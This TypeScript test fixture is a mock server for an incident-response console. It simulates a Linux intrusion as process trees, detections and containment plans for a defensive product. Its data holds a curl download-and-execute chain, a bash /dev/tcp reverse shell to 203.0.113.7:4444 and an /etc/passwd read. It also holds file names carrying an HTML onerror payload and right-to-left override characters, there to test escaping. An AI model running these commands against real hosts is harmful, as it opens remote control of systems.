/// An intrusion as the API tells of it, for tests that look at its screens without an endpoint that records: a dropper that curl
/// fetched, run, kept by cron, calling out; and a tree of two thousand processes.

export interface Answer {
  status: number;
  body: unknown;
  headers?: Record<string, string>;
}

export const INCIDENT = "0198c0de-0000-7000-8000-000000000011";
export const BIG = "0198c0de-0000-7000-8000-000000000012";
export const CHAIN = "0198c0de-0000-7000-8000-0000000000c1";
export const PLAN = "0198c0de-0000-7000-8000-0000000000a1";
const WEB = { id: "0198c0de-0000-7000-8000-0000000000e1", name: "web-1" };
const DB = { id: "0198c0de-0000-7000-8000-0000000000e2", name: "db-1" };
const BASE = Date.UTC(2026, 10, 23, 4, 10, 0);

function at(seconds: number): string {
  return new Date(BASE + seconds * 1000).toISOString().replace("Z", "000Z");
}

function uuid(kind: string, number: number): string {
  return `0198c0de-0000-7000-8000-${kind}${String(number).padStart(12 - kind.length, "0")}`;
}

function sha(seed: string): string {
  let text = "";
  for (let index = 0; text.length < 64; index += 1)
    text += (seed.charCodeAt(index % seed.length) * 7919 + index).toString(16);
  return text.slice(0, 64);
}

/** Names that want to be more than names. */
const HOSTILE = "/tmp/photo\u202Egpj.exe<img src=x onerror=1>";

interface Row {
  pid: number;
  depth: number;
  path: string;
  args: string[];
  user?: string;
  severity?: string;
  counts?: Record<string, number>;
  more?: Record<string, unknown>;
  image?: Record<string, unknown>;
}

const ROWS: Row[] = [
  {
    pid: 812,
    depth: 0,
    path: "/usr/sbin/sshd",
    args: ["sshd: deploy [priv]"],
    user: "root",
    more: { from_before: true },
  },
  { pid: 4101, depth: 1, path: "/usr/bin/bash", args: ["-bash"], user: "deploy", counts: { start: 1 } },
  {
    pid: 4120,
    depth: 2,
    path: "/usr/bin/curl",
    args: ["curl", "-fsSL", "http://203.0.113.7/update", "-o", "/tmp/update"],
    user: "deploy",
    counts: { start: 1, dns: 1, connect: 1, file_create: 1 },
    severity: "medium",
  },
  {
    pid: 4127,
    depth: 2,
    path: "/usr/bin/chmod",
    args: ["chmod", "+x", "/tmp/update"],
    user: "deploy",
    counts: { start: 1 },
  },
  {
    pid: 4130,
    depth: 2,
    path: "/tmp/update",
    args: ["/tmp/update", "--quiet"],
    user: "deploy",
    severity: "critical",
    counts: { start: 1, file_create: 2, connect: 1 },
    image: { nameless: true },
  },
  {
    pid: 4133,
    depth: 3,
    path: "/usr/bin/crontab",
    args: ["crontab", "-"],
    user: "deploy",
    counts: { start: 1, file_create: 1 },
    severity: "high",
  },
  {
    pid: 4140,
    depth: 3,
    path: HOSTILE,
    args: ["sh", "-c", "exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 | while read l; do $l 2>&3 >&3; done"],
    user: "deploy",
    counts: { start: 1, connect: 1, dns: 3 },
    severity: "high",
    image: { path_hex: "2f746d702fff" },
  },
  { pid: 4150, depth: 4, path: "/usr/bin/cat", args: ["cat", "/etc/passwd"], user: "deploy", counts: { start: 1 } },
  { pid: 4151, depth: 4, path: "/usr/bin/id", args: ["id"], user: "deploy", counts: { start: 1 } },
  { pid: 4160, depth: 2, path: "/usr/bin/ls", args: ["ls", "-la"], user: "deploy", counts: { start: 1 } },
  {
    pid: 990,
    depth: 0,
    path: "/usr/sbin/cron",
    args: ["cron", "-f"],
    user: "root",
    more: { place: "parent_unknown", from_before: true },
  },
  {
    pid: 4201,
    depth: 1,
    path: "/bin/sh",
    args: ["/bin/sh", "-c", "/tmp/update --quiet"],
    user: "deploy",
    counts: { start: 1 },
  },
];

function image(row: Row): Record<string, unknown> {
  return {
    path: row.path,
    arguments: row.args,
    arguments_cut: false,
    command_line: row.args.map((arg) => (/[^\w@%+=:,./-]/.test(arg) ? `'${arg}'` : arg)).join(" "),
    directory: "/home/deploy",
    sha256: sha(row.path),
    package: row.path.startsWith("/usr/bin") ? "coreutils 9.4-3" : null,
    script: null,
    nameless: false,
    in_memory: false,
    size: 154_224,
    terminal: "pts/0",
    ...row.image,
  };
}

function process(row: Row, chain = CHAIN): Record<string, unknown> {
  return {
    chain,
    pid: row.pid,
    start: row.pid * 100,
    parent: null,
    depth: row.depth,
    place: row.depth === 0 ? "root" : "child",
    is_key: row.severity !== undefined,
    image: image(row),
    uid: row.user === "root" ? 0 : 1001,
    user: row.user,
    login_uid: 1001,
    started_at: at(row.pid - 4000),
    ended_at: [4120, 4127, 4150, 4151, 4160].includes(row.pid) ? at(row.pid - 3990) : null,
    exit: [4120, 4127, 4150, 4151, 4160].includes(row.pid) ? { code: 0 } : null,
    pid_namespace: null,
    container: null,
    from_before: false,
    incomplete: false,
    activity_counts: row.counts ?? {},
    techniques: row.severity === undefined ? [] : ["T1059.004"],
    severity: row.severity ?? null,
    ...row.more,
  };
}

interface Event {
  id: number;
  pid: number;
  kind: string;
  seconds: number;
  summary: string;
  hit?: { title: string; severity: string; source: string; verdict: string; techniques: string[] };
  body: Record<string, unknown>;
}

function file(path: string, format: string | null): Record<string, unknown> {
  return { file: { path, from: null, sha256: sha(path), size: 18_432, mode: 0o100755, format } };
}

function remote(port: number): Record<string, unknown> {
  return {
    connection: {
      protocol: "tcp",
      local: "10.20.0.11",
      local_port: 48_122,
      remote: "203.0.113.7",
      remote_port: port,
      inbound: false,
      fate: "established",
    },
  };
}

const EVENTS: Event[] = [
  {
    id: 1,
    pid: 4101,
    kind: "login",
    seconds: 100,
    summary: "sshd let in deploy from 198.51.100.4",
    body: { login: { user: "deploy", from: "198.51.100.4", terminal: "pts/0", failed: false } },
  },
  {
    id: 2,
    pid: 4120,
    kind: "start",
    seconds: 120,
    summary: "curl was started: curl -fsSL http://203.0.113.7/update -o /tmp/update",
    body: {},
  },
  {
    id: 3,
    pid: 4120,
    kind: "dns",
    seconds: 120.2,
    summary: "curl asked for updates.example.net",
    body: { dns: { name: "updates.example.net", type: "A", server: "10.20.0.1", answers: ["203.0.113.7"] } },
  },
  { id: 4, pid: 4120, kind: "connect", seconds: 120.3, summary: "curl connected to 203.0.113.7:80", body: remote(80) },
  {
    id: 5,
    pid: 4120,
    kind: "file_create",
    seconds: 121,
    summary: "curl created /tmp/update",
    hit: {
      title: "A program was written to a directory that anybody can write to",
      severity: "medium",
      source: "behaviour",
      verdict: "detected",
      techniques: ["T1105"],
    },
    body: file("/tmp/update", "elf"),
  },
  { id: 6, pid: 4127, kind: "start", seconds: 127, summary: "chmod was started: chmod +x /tmp/update", body: {} },
  {
    id: 7,
    pid: 4130,
    kind: "start",
    seconds: 130,
    summary: "update was started: /tmp/update --quiet",
    hit: {
      title: "Known malware was started: /tmp/update",
      severity: "critical",
      source: "yara",
      verdict: "not_prevented",
      techniques: ["T1204.002", "T1059.004"],
    },
    body: {},
  },
  {
    id: 8,
    pid: 4133,
    kind: "file_create",
    seconds: 133,
    summary: "crontab created /var/spool/cron/crontabs/deploy",
    hit: {
      title: "A crontab was written by a program in /tmp",
      severity: "high",
      source: "behaviour",
      verdict: "detected",
      techniques: ["T1053.003"],
    },
    body: file("/var/spool/cron/crontabs/deploy", null),
  },
  {
    id: 9,
    pid: 4140,
    kind: "connect",
    seconds: 140,
    summary: `photo\u202Egpj.exe connected to 203.0.113.7:4444`,
    hit: {
      title: "A shell talks to another machine",
      severity: "high",
      source: "behaviour",
      verdict: "detected",
      techniques: ["T1059.004", "T1071"],
    },
    body: remote(4444),
  },
  { id: 10, pid: 4150, kind: "start", seconds: 150, summary: "cat was started: cat /etc/passwd", body: {} },
  { id: 11, pid: 4151, kind: "start", seconds: 151, summary: "id was started: id", body: {} },
  {
    id: 12,
    pid: 4201,
    kind: "start",
    seconds: 201,
    summary: "sh was started: /bin/sh -c '/tmp/update --quiet'",
    body: {},
  },
];

function activity(event: Event): Record<string, unknown> {
  const row = ROWS.find(({ pid }) => pid === event.pid);
  return {
    chain: CHAIN,
    id: event.id,
    endpoint: WEB,
    at: at(event.seconds),
    received_at: at(event.seconds + 0.4),
    process: { pid: event.pid, start: event.pid * 100, path: row?.path ?? null, user: row?.user ?? null },
    kind: event.kind,
    is_key: event.hit !== undefined,
    techniques: event.hit?.techniques ?? [],
    detections:
      event.hit === undefined
        ? []
        : [
            {
              id: uuid("d", event.id),
              source: event.hit.source,
              title: event.hit.title,
              severity: event.hit.severity,
              verdict: event.hit.verdict,
            },
          ],
    summary: event.summary,
    ...(event.kind === "start" && row !== undefined ? { image: image(row) } : {}),
    ...event.body,
  };
}

function offer(
  action: string,
  title: string,
  object: string,
  more: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    action,
    title,
    endpoint: WEB,
    object,
    params: { path: object },
    asks: false,
    choices: [],
    risk: "medium",
    undone_by: null,
    warnings: [],
    possible: true,
    refused: null,
    ...more,
  };
}

/** What may be done about an event, by its kind: as the server says it. */
function offersOf(event: Event): Record<string, unknown> {
  if (!["start", "file_create", "file_write", "file_rename"].includes(event.kind)) {
    return { object: null, items: [], nothing: { code: "kind", text: "nothing is offered for an event of this kind" } };
  }
  const row = ROWS.find(({ pid }) => pid === event.pid);
  const object = event.kind === "start" ? (row?.path ?? "") : String((event.body["file"] as { path: string }).path);
  const isSystem = object.startsWith("/usr/");
  const refused = isSystem ? { possible: false, refused: { code: "protected", text: "it is part of the system" } } : {};
  const items = [
    offer("file.prevent_run", "Prevent Run", object, { undone_by: "file.allow_run", ...refused }),
    offer("file.quarantine", "Move to Quarantine", object, { undone_by: "file.restore", ...refused }),
    offer("file.delete", "Delete File", object, { risk: "high", ...refused }),
  ];
  if (event.kind === "start") {
    items.push(
      offer("process.terminate", "Terminate Process", `${object}, process ${String(event.pid)}`, {
        risk: "high",
        choices: [{ field: "descendants", text: "with all that it started", preset: true }],
        warnings: isSystem ? [{ code: "packaged", text: "it belongs to a package of the system" }] : [],
        ...([4120, 4127, 4150, 4151].includes(event.pid)
          ? { possible: false, refused: { code: "ended", text: "the process has ended" } }
          : {}),
      }),
    );
  }
  return { object, items, nothing: null };
}

const ENDPOINT_OFFERS = [
  offer("endpoint.isolate", "Isolate Endpoint", "web-1", { asks: true, params: null, undone_by: "endpoint.restore" }),
  offer("process.start", "Start Process", "web-1", { asks: true, params: null, risk: "high" }),
];

export const GAPS = {
  lost: 14,
  processes_beyond: 0,
  activities_beyond: 0,
  dropped: 0,
  begins_late: true,
  vanished_files: 0,
};
const NO_GAPS = {
  lost: 0,
  processes_beyond: 0,
  activities_beyond: 0,
  dropped: 0,
  begins_late: false,
  vanished_files: 0,
};

function chain(id: string, size: number, gaps: object): Record<string, unknown> {
  return {
    id,
    endpoint: WEB,
    name: "c-1",
    boot_id: "5d2f9d0e-5d0c-4f55-9d7e-4d6b7f9c2c11",
    root_pid: 812,
    root_start: 81_200,
    opened_at: at(121),
    updated_at: at(230),
    closed: false,
    process_count: size,
    activity_count: EVENTS.length,
    detection_count: 4,
    gaps,
  };
}

interface State {
  state: string;
  resolution: string | null;
  title: string;
  severity: string;
  assignee: { id: string; name: string } | null;
  notes: Record<string, unknown>[];
  notYours: string | null;
  asked: Record<string, unknown>[];
}

function incident(id: string, number: number, state: State): Record<string, unknown> {
  return {
    id,
    number,
    title: state.title,
    severity: state.severity,
    state: state.state,
    resolution: state.resolution,
    assignee: state.assignee,
    created_at: at(121.5),
    first_at: at(121),
    last_at: at(201),
    closed_at: null,
    closed_by: null,
    merged_into: null,
    detection_count: 4,
    chain_count: 1,
    endpoint_count: 1,
    note_count: state.notes.length,
    task_count: state.asked.length,
    endpoints: [{ ...WEB, connected: true, isolated: false, detection_count: 4 }],
    techniques: ["T1053.003", "T1059.004", "T1071", "T1105", "T1204.002"],
  };
}

function others(): Record<string, unknown>[] {
  const severities = ["high", "medium", "low", "informational", "high", "medium"];
  return severities.map((severity, index) => ({
    ...incident(uuid("1f", index), 16 - index, { ...fresh(), severity, title: TITLES[index] ?? "" }),
    state: ["open", "in_progress", "closed", "open", "closed", "open"][index],
    resolution: index === 2 ? "false_positive" : index === 4 ? "true_positive" : null,
    assignee: index % 2 === 0 ? null : { id: uuid("b", 1), name: "Ana Ferreira" },
    detection_count: 1 + index * 3,
    techniques: ["T1543.002", "T1070.004", "T1046"].slice(0, index % 4),
    last_at: at(-3600 * (index + 1)),
    endpoints: [{ ...(index % 2 === 0 ? DB : WEB), connected: index !== 3, isolated: index === 1, detection_count: 1 }],
  }));
}

const TITLES = [
  "A service unit was written by apache2 on db-1",
  "A known miner was stopped before it began: /var/tmp/.x/kdevtmpfsi",
  "Logs of logins were emptied",
  "Ports of neighbours were asked for one after the other",
  "A shell was opened by postgres",
  "<b>bold</b> \u202Egnp.sh was started from /dev/shm",
];

export function fresh(): State {
  return {
    state: "open",
    resolution: null,
    title: "Known malware was started: /tmp/update on web-1",
    severity: "critical",
    assignee: null,
    notes: [
      {
        id: uuid("f", 1),
        author: { kind: "person", id: uuid("b", 1), name: "Ana Ferreira" },
        body: "The deploy key was used from 198.51.100.4, which is not ours.\nAsked the team: nobody deploys at night.",
        created_at: at(400),
        edited_at: null,
        is_own: true,
      },
    ],
    notYours: null,
    asked: [],
  };
}

/** A fork bomb beside an intrusion. */
function bigTree(): Record<string, unknown>[] {
  const rows: Record<string, unknown>[] = ROWS.slice(0, 10).map((row) => process(row));
  for (let index = 0; index < 2000; index += 1) {
    const pid = 10_000 + index;
    const row = {
      pid,
      depth: index % 40 === 0 ? 2 : 3,
      path: index % 40 === 0 ? "/usr/bin/make" : "/usr/bin/cc1",
      args: ["cc1", `unit${String(index)}.c`],
      user: "deploy",
    };
    rows.push(process({ ...row, ...(index === 1503 ? { severity: "high" } : {}) }));
  }
  return rows;
}

function products(): Record<string, unknown>[] {
  const own = EVENTS.flatMap((event) =>
    event.hit === undefined
      ? []
      : [
          {
            id: uuid("d", event.id),
            origin: "endpoint",
            source: event.hit.source,
            source_id: `c-1/${String(event.id)}`,
            rule: "quell.linux.42",
            title: event.hit.title,
            severity: event.hit.severity,
            verdict: event.hit.verdict,
            techniques: event.hit.techniques,
            at: at(event.seconds),
            told_at: null,
            received_at: at(event.seconds + 0.4),
            endpoint: WEB,
            endpoint_hint: null,
            incident: { id: INCIDENT, number: 17 },
            joined: event.id === 9 ? "the same process tree" : null,
            chain: CHAIN,
            activity: event.id,
            is_edr: true,
            path: "/tmp/update",
            sha256: sha("/tmp/update"),
            user: "deploy",
            note: null,
          },
        ],
  );
  const told = (id: number, source: string, title: string, more: Record<string, unknown>): Record<string, unknown> => ({
    id: uuid("dd", id),
    origin: "product",
    source,
    source_id: `s-${String(id)}`,
    rule: "Write below etc",
    title,
    severity: "medium",
    verdict: null,
    techniques: [],
    at: at(60 - id),
    told_at: null,
    received_at: at(61 - id),
    endpoint: null,
    endpoint_hint: null,
    incident: null,
    joined: null,
    chain: null,
    activity: null,
    is_edr: false,
    path: null,
    sha256: null,
    user: null,
    note: null,
    ...more,
  });
  return [
    ...own.reverse(),
    told(1, "falco", "File below /etc opened for writing", {
      endpoint: DB,
      endpoint_hint: "db-1",
      path: "/etc/ld.so.preload",
      user: "root",
    }),
    told(2, "suricata", "ET MALWARE Reverse shell \u202Egnp", { endpoint_hint: "10.20.0.77", severity: "high" }),
  ];
}

const CUT = {
  digest: sha("cut"),
  steps: [
    {
      number: 1,
      endpoint: WEB,
      action: "endpoint.isolate",
      title: "Isolate Endpoint",
      params: {},
      object: "web-1",
      reason: "a process of the intruder talks to 203.0.113.7:4444 now",
      because: [{ chain: CHAIN, activity: 9 }],
      blast: {
        text: "web-1 is reached by nobody but Quell until it is restored",
        processes: 0,
        others: 0,
        endpoints: null,
        package: null,
        connections: 2,
      },
      risk: "medium",
      undone_by: "endpoint.restore",
      on_failure: "continue",
      ticked: true,
      after: [],
      warnings: [],
    },
    {
      number: 2,
      endpoint: WEB,
      action: "file.prevent_run",
      title: "Prevent Run",
      params: {},
      object: "/tmp/update",
      reason: "it was dropped by curl, and cron starts it again",
      because: [
        { chain: CHAIN, activity: 5 },
        { chain: CHAIN, activity: 12 },
      ],
      blast: { text: "", processes: 0, others: 0, endpoints: 1, package: null, connections: 0 },
      risk: "low",
      undone_by: "file.allow_run",
      on_failure: "continue",
      ticked: true,
      after: [1],
      warnings: [],
    },
    {
      number: 3,
      endpoint: WEB,
      action: "process.terminate",
      title: "Terminate Process",
      params: {},
      object: "/tmp/update, process 4130, and what it started",
      reason: "it was detected, and runs",
      because: [{ chain: CHAIN, activity: 7 }],
      blast: { text: "", processes: 3, others: 0, endpoints: null, package: null, connections: 1 },
      risk: "high",
      undone_by: null,
      on_failure: "stop",
      ticked: true,
      after: [2],
      warnings: [],
    },
    {
      number: 4,
      endpoint: WEB,
      action: "file.quarantine",
      title: "Move to Quarantine",
      params: {},
      object: "/tmp/update",
      reason: "it was dropped by the intruder",
      because: [{ chain: CHAIN, activity: 5 }],
      blast: { text: "", processes: 0, others: 0, endpoints: 1, package: null, connections: 0 },
      risk: "medium",
      undone_by: "file.restore",
      on_failure: "continue",
      ticked: true,
      after: [3],
      warnings: [],
    },
    {
      number: 5,
      endpoint: null,
      action: "blocklist.add",
      title: "Add to Block List",
      params: {},
      object: "203.0.113.7",
      reason: "the intruder called it",
      because: [{ chain: CHAIN, activity: 9 }],
      blast: {
        text: "every endpoint loses the way to 203.0.113.7",
        processes: 0,
        others: 0,
        endpoints: null,
        package: null,
        connections: 0,
      },
      risk: "medium",
      undone_by: "blocklist.remove",
      on_failure: "continue",
      ticked: false,
      after: [],
      warnings: [{ code: "all_endpoints", text: "it is for all endpoints" }],
    },
  ],
  manual: [
    {
      endpoint: WEB,
      text: "remove the line of /var/spool/cron/crontabs/deploy that starts /tmp/update",
      because: [{ chain: CHAIN, activity: 8 }],
    },
  ],
  not_available: [
    {
      code: "account.disable",
      text: "the intruder ran as the user deploy on web-1: no action here disables an account",
    },
  ],
  left: [
    {
      code: "there_before",
      text: "/usr/bin/bash on web-1 started what was detected, and was there before: look at what it is for",
    },
  ],
};

function task(id: string, action: string, title: string, state: string, params: object): Record<string, unknown> {
  return {
    id,
    action,
    title,
    revision: 1,
    state,
    reason_code: null,
    reason: "INC-17: stop it",
    params,
    requester: { kind: "person", id: uuid("b", 2), name: "Maria Silva" },
    created_at: at(600),
    created_from: "console/incidents",
    ended_at: state === "succeeded" ? at(604) : null,
    expires_at: at(90_000),
    revert_after_seconds: null,
    revert_at: null,
    undo_of: null,
    undone_by: null,
    cancel_requested_at: null,
    target_count: 1,
    open_count: state === "succeeded" ? 0 : 1,
    succeeded_count: state === "succeeded" ? 1 : 0,
    targets: [{ ...WEB, state }],
    intent_sha256: sha(id),
    approval: "people",
    incident: { id: INCIDENT, number: 17, chain: CHAIN, activity: 7 },
    plan: PLAN,
  };
}

function plan(state: string): Record<string, unknown> {
  const of = (index: number): string =>
    state === "pending_approval"
      ? "pending_approval"
      : state === "succeeded"
        ? "succeeded"
        : (["succeeded", "running", "queued"][index] ?? "queued");
  const steps = [
    {
      number: 1,
      why: "a process of the intruder talks to 203.0.113.7:4444 now",
      on_failure: "continue",
      needs: [],
      task: task(uuid("7", 1), "endpoint.isolate", "Isolate Endpoint", of(0), {}),
    },
    {
      number: 2,
      why: "it was detected, and runs",
      on_failure: "stop",
      needs: [],
      task: task(uuid("7", 2), "process.terminate", "Terminate Process", of(1), { pid: 4130, start_time: 413_000 }),
    },
    {
      number: 3,
      why: "it was dropped by the intruder",
      on_failure: "continue",
      needs: [2],
      task: task(uuid("7", 3), "file.quarantine", "Move to Quarantine", of(2), { path: "/tmp/update" }),
    },
  ];
  return {
    id: PLAN,
    digest: sha("plan"),
    state,
    incident: INCIDENT,
    reason: "INC-17: stop it",
    requester: { kind: "person", id: uuid("b", 2), name: "Maria Silva" },
    created_at: at(600),
    ended_at: null,
    stopped_by: null,
    undo_of: null,
    undone_by: null,
    steps,
    approvals:
      state === "pending_approval"
        ? steps.map((step) => ({
            task: (step.task as { id: string }).id,
            state: "pending",
            quorum: 1,
            you: { can_decide: true, hinders: null, signing: null },
          }))
        : [],
  };
}

const PREVIEW = {
  state: "queued",
  target_count: 1,
  targets: [
    {
      ...WEB,
      connected: true,
      isolated: false,
      excepted: false,
      protected: null,
      problem: null,
      logged_on: ["deploy"],
    },
  ],
  beyond_reach: 0,
  waits_for: [],
  approval: { how: "none", quorum: 0, roles: [], trace: [], valid_for_seconds: null },
  step_up: { needed: false, methods: [] },
  way_back: { effect: "reversible", undone_by: "file.restore" },
  blast: {},
  confirm_count: null,
  refused: null,
};

function page(items: unknown[], total = items.length): Answer {
  return { status: 200, body: { items, next: null, total } };
}

/** A server that knows this intrusion alone; `undefined` is left to whom it is asked of else. */
/** Incidents are open, and nothing else goes on. */
const OVERVIEW = {
  isolated: [],
  not_undone: [],
  open: [],
  alarms: [],
  incidents: [
    { severity: "critical", count: 1 },
    { severity: "medium", count: 1204 },
  ],
  connected: 2,
};

export class Told {
  readonly state = fresh();
  /** What was sent: method, path and body. */
  readonly sent: { method: string; path: string; body: Record<string, unknown> }[] = [];
  planState = "pending_approval";

  answer(method: string, url: URL, body: Record<string, unknown> = {}): Answer | undefined {
    const path = url.pathname.replace("/api/v1", "");
    if (method !== "GET") this.sent.push({ method, path, body });
    const parts = path.split("/").slice(1);
    switch (parts[0]) {
      case "incidents":
        return this.incidents(method, parts.slice(1), url.searchParams, body);
      case "detections":
        return this.detections(parts[1], url.searchParams);
      case "overview":
        return { status: 200, body: OVERVIEW };
      case "response-plans":
        return this.plans(method, parts.slice(1));
      case "tasks":
        if (method === "GET" && parts.length === 1 && url.searchParams.has("incident")) return page(this.state.asked);
        return undefined;
      default:
        return undefined;
    }
  }

  private incidents(
    method: string,
    parts: string[],
    query: URLSearchParams,
    body: Record<string, unknown>,
  ): Answer | undefined {
    const [id, what, one, two] = parts;
    if (id === undefined) return page([this.one(INCIDENT), ...others(), this.one(BIG)]);
    if (id === "merge") return { status: 200, body: this.one(INCIDENT) };
    const own = id === "18" ? BIG : id === "17" ? INCIDENT : id;
    const isBig = own === BIG;
    if (what === undefined) {
      if (method === "PATCH") this.change(body);
      const whole = {
        ...this.one(own),
        chains: [chain(CHAIN, isBig ? 2010 : ROWS.length, isBig ? NO_GAPS : GAPS)],
        offers: ENDPOINT_OFFERS,
        not_yours: this.state.notYours,
      };
      return { status: 200, body: whole, headers: { etag: '"1"' } };
    }
    switch (what) {
      case "chain":
        return {
          status: 200,
          body: {
            chains: [chain(CHAIN, ROWS.length, isBig ? NO_GAPS : GAPS)],
            processes: isBig ? bigTree() : ROWS.map((row) => process(row)),
            key_activities: EVENTS.filter(({ hit }) => hit !== undefined).map(activity),
            cut: false,
          },
        };
      case "activity":
        return this.activity(query, one, two);
      case "notes":
        if (method === "POST")
          this.state.notes.unshift({
            ...this.state.notes[0],
            id: uuid("f", 2),
            body: String(body["body"]),
            created_at: at(900),
          });
        return method === "GET" ? page(this.state.notes) : { status: 200, body: this.state.notes[0] };
      case "cut":
        return method === "GET" ? { status: 200, body: CUT } : { status: 201, body: plan("pending_approval") };
      case "respond":
        if (one === "preview") {
          const isFinal = ["file.delete", "process.terminate", "process.start"].includes(String(body["action"]));
          return {
            status: 200,
            body: isFinal ? { ...PREVIEW, way_back: { effect: "irreversible", undone_by: null } } : PREVIEW,
          };
        }
        this.state.asked.unshift(
          task(uuid("7", 9), String(body["action"]), "Move to Quarantine", "queued", { path: "/tmp/update" }),
        );
        return { status: 201, body: { ...this.state.asked[0], commands: { items: [], next: null }, states: {} } };
      default:
        return undefined;
    }
  }

  private change(body: Record<string, unknown>): void {
    if (typeof body["state"] === "string") this.state.state = body["state"];
    if (typeof body["title"] === "string") this.state.title = body["title"];
    if (typeof body["severity"] === "string") this.state.severity = body["severity"];
    this.state.resolution = typeof body["resolution"] === "string" ? body["resolution"] : null;
    if ("assignee" in body)
      this.state.assignee = body["assignee"] === null ? null : { id: uuid("b", 2), name: "Maria Silva" };
  }

  private one(id: string): Record<string, unknown> {
    return incident(
      id,
      id === BIG ? 18 : 17,
      id === BIG ? { ...this.state, title: "Two thousand compilers beside an intruder" } : this.state,
    );
  }

  private activity(query: URLSearchParams, ofChain: string | undefined, id: string | undefined): Answer {
    if (ofChain !== undefined) {
      const event = EVENTS.find((each) => each.id === Number(id));
      if (event === undefined)
        return {
          status: 404,
          body: {
            type: "about:blank",
            status: 404,
            code: "not_found",
            title: "Not found",
            detail: "There is no such activity event.",
            request_id: "r",
          },
        };
      const row = ROWS.find(({ pid }) => pid === event.pid);
      return {
        status: 200,
        body: {
          ...activity(event),
          doer: row === undefined ? null : process(row),
          offers: offersOf(event),
          not_yours: this.state.notYours,
          tasks: this.state.asked,
        },
      };
    }
    const kinds = query.get("kind")?.split(",");
    const pid = query.get("process")?.split(":")[0];
    const found = EVENTS.filter(
      (event) =>
        (kinds === undefined || kinds.includes(event.kind)) &&
        (pid === undefined || String(event.pid) === pid) &&
        (query.get("key") !== "true" || event.hit !== undefined) &&
        (query.get("technique") === null || event.hit?.techniques.includes(query.get("technique") ?? "") === true),
    );
    return page((query.get("sort") === "-at" ? found.toReversed() : found).map(activity));
  }

  private detections(id: string | undefined, query: URLSearchParams): Answer {
    const all = products();
    if (id === undefined) {
      const only = query.get("incident");
      return page(only === null || only === "none" ? all : all.filter((row) => row["is_edr"] === true));
    }
    const row = all.find((each) => each["id"] === id) ?? all[0] ?? {};
    const event = EVENTS.find((each) => each.id === row["activity"]);
    if (event === undefined) {
      return {
        status: 200,
        body: {
          ...row,
          record: { output: "File below /etc opened for writing", hostname: "db-1", rule: "Write below etc" },
          key_activity: null,
          process: null,
          offers: {
            object: null,
            items: [],
            nothing: {
              code: "no_chain",
              text: "no protection of an endpoint registered this event, so there is no chain to respond in",
            },
          },
          not_yours: null,
          can_ask_chain_of: row["endpoint"] ?? null,
        },
      };
    }
    const doer = ROWS.find(({ pid }) => pid === event.pid);
    return {
      status: 200,
      body: {
        ...row,
        record: null,
        key_activity: activity(event),
        process: doer === undefined ? null : process(doer),
        offers: offersOf(event),
        not_yours: this.state.notYours,
        can_ask_chain_of: null,
      },
    };
  }

  private plans(method: string, parts: string[]): Answer {
    const [id, what] = parts;
    if (id === undefined) return page([plan(this.planState)]);
    if (method === "POST") {
      if (what === "approve") this.planState = "running";
      if (what === "reject") this.planState = "rejected";
      if (what === "undo")
        return {
          status: 201,
          body: {
            ...plan("running"),
            undo_of: PLAN,
            left: [{ number: 2, why: "a process that ended does not come back" }],
            passed_over: [],
          },
        };
    }
    return { status: 200, body: plan(this.planState) };
  }
}
